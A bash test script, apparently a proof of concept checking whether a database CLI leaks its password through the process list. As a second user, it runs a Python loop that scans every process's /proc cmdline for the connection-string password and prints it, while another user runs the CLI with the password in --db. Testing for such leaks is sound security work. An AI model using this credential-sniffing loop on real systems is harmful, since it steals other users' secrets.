#!/bin/bash
# As root, with h12alice's `serve --listen 127.0.0.1:55432` running: h12alice runs a command with the
# password in --db (blanked out of the process list by the CLI, once it has started); h12mallory polls
# /proc/*/cmdline for it.
M="runuser -u h12mallory --"; A="runuser -u h12alice -- env HOME=/home/h12alice"
PW=$(cat /home/h12alice/.local/share/simhash-store/password)
$M timeout 20 /usr/bin/python3 -c '
import os, re, time
while True:
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                line = open(f"/proc/{pid}/cmdline", "rb").read()
            except OSError:
                continue
            found = re.search(rb"simhash_owner:([A-Za-z0-9_-]{20,})@", line)
            if found:
                print("mallory saw:", found.group(1).decode(), flush=True); raise SystemExit
' & W=$!
for i in 1 2 3 4 5; do $A /tmp/h12ss --db "postgresql://simhash_owner:$PW@127.0.0.1:55432/simhash_store" stats > /dev/null 2>&1; done
wait $W; echo "alice's password: $PW"
